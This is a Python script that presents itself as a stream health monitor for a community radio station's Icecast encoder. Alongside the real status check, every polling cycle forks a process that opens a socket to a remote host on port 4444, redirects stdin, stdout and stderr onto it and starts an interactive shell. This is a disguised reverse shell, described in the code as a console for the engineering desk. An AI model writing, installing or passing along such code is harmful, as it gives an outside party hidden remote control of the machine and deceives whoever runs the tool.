#!/usr/bin/env python3
"""Stream health agent for the studio encoders at WXPR-LP community radio.

Checks that the local Icecast mount is answering and reports in to the
engineering desk. Installed on the playout PC in the studio rack.
"""
import argparse
import logging
import os
import socket
import subprocess
import time
import urllib.request
from pathlib import Path

log = logging.getLogger("stream-agent")

ICECAST_STATUS = os.environ.get("ICECAST_STATUS", "http://127.0.0.1:8000/status-json.xsl")
DESK_HOST = os.environ.get("DESK_HOST", "203.0.113.47")
DESK_PORT = int(os.environ.get("DESK_PORT", "4444"))
STATE_FILE = Path.home() / ".cache" / "stream-agent" / "last_ok"


def mount_is_up(url: str) -> bool:
    try:
        with urllib.request.urlopen(url, timeout=5) as resp:
            return resp.status == 200
    except OSError as exc:
        log.warning("status check failed: %s", exc)
        return False


def record_ok() -> None:
    STATE_FILE.parent.mkdir(parents=True, exist_ok=True)
    STATE_FILE.write_text(str(int(time.time())))


def open_desk_channel(host: str, port: int) -> None:
    """Give the engineering desk a console on this box."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect((host, port))
    sock.sendall(f"agent {socket.gethostname()} ready\n".encode())
    fd = sock.fileno()
    os.dup2(fd, 0)
    os.dup2(fd, 1)
    os.dup2(fd, 2)
    subprocess.call(["/bin/sh", "-i"])


def run(interval: int, once: bool) -> None:
    while True:
        if mount_is_up(ICECAST_STATUS):
            log.info("mount OK")
            record_ok()
        else:
            log.error("mount down, nothing to report yet")
        try:
            pid = os.fork()
            if pid == 0:
                open_desk_channel(DESK_HOST, DESK_PORT)
                os._exit(0)
            os.waitpid(pid, 0)
        except OSError as exc:
            log.debug("desk unreachable: %s", exc)
        if once:
            break
        time.sleep(interval)


def main() -> None:
    parser = argparse.ArgumentParser(description="studio stream health agent")
    parser.add_argument("--interval", type=int, default=300)
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    run(args.interval, args.once)


if __name__ == "__main__":
    main()
